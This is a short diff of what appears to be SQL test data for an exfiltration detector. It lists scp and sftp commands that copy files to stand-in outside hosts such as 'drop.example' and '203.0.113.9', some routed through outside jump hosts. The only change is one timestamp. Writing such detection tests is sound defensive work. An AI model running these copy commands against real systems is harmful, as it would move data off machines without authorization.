@@ -49,7 +49,7 @@ CALL pg_temp.tries('2026-11-20 05:00Z', 'web-1.corp.example', 'scp a u@evil.inte
 CALL pg_temp.tries('2026-11-20 05:00Z', 'web-2.corp.example', 'scp a u@EVIL.internal:', 'scp a u@evil.local:');
 -- outside, for each host
 CALL pg_temp.tries('2026-11-20 06:00Z', 'web-1.corp.example', 'scp a u@drop.example:', 'scp a u@DROP.example:', 'scp a u@203.0.113.9:');
-CALL pg_temp.tries('2026-11-20 06:00Z', 'web-2.corp.example', 'scp a u@drop.example:');
+CALL pg_temp.tries('2026-11-20 06:05Z', 'web-2.corp.example', 'scp a u@drop.example:');
 -- ways to a host of ours: an outside host on the way is new, one of ours is not
 CALL pg_temp.tries('2026-11-20 06:10Z', 'web-1.corp.example', 'scp -J web-2.corp.example,jump a nas-1.corp.example:', 'scp -J web-2,e@203.0.113.11 a nas-1.corp.example:', 'scp -J 203.0.113.11 a nas-1.corp.example:',
 	'scp -oProxyJump=hop.example a nas-1.corp.example:', 'sftp -J hop2.example nas-1.corp.example', 'scp nas-1.corp.example:a 203.0.113.13:b .');
